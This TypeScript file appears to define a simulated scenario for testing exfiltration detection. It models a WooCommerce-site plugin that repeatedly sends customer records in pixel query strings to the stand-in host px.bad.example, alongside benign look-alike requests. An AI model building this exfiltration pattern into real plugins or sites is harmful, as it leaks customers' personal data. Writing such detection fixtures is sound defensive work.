import type { Story } from '../story.ts';

export const packedQueries: Story = {
  name: 'packed-queries', title: 'records packed into the query strings of a pixel',
  items: ['outbound.query-exfiltration'], site: 'garten-werk',
  attack: (s) => s.every(s.at('5:00'), '45s', 60, (at, i) =>
    s.call(at, { host: 'px.bad.example', plugin: 'reviews-plus', known: false }, { 'url.query': `v=1&d=${s.word(360)}`, 'http.request.method': 'GET' }, { reads: [s.customer(i + 1)] })),
  lookAlike: {
    title: 'a plugin asks for updates and fetches an image by a signed address',
    events: (s) => [
      s.call(s.at('5:30'), { host: 'api.wordpress.org', plugin: 'wordpress', known: true }, {
        'url.query': 'action=query_plugins&request%5Bper_page%5D=36&request%5Blocale%5D=de_DE', 'http.request.method': 'GET',
      }),
      s.call(s.at('5:31'), { host: 'ship.parcel.example', plugin: 'woocommerce', known: true }, { 'url.query': `tracking=00340434${s.word(12, '0123456789')}&lang=de`, 'http.request.method': 'GET' }),
    ],
  },
};
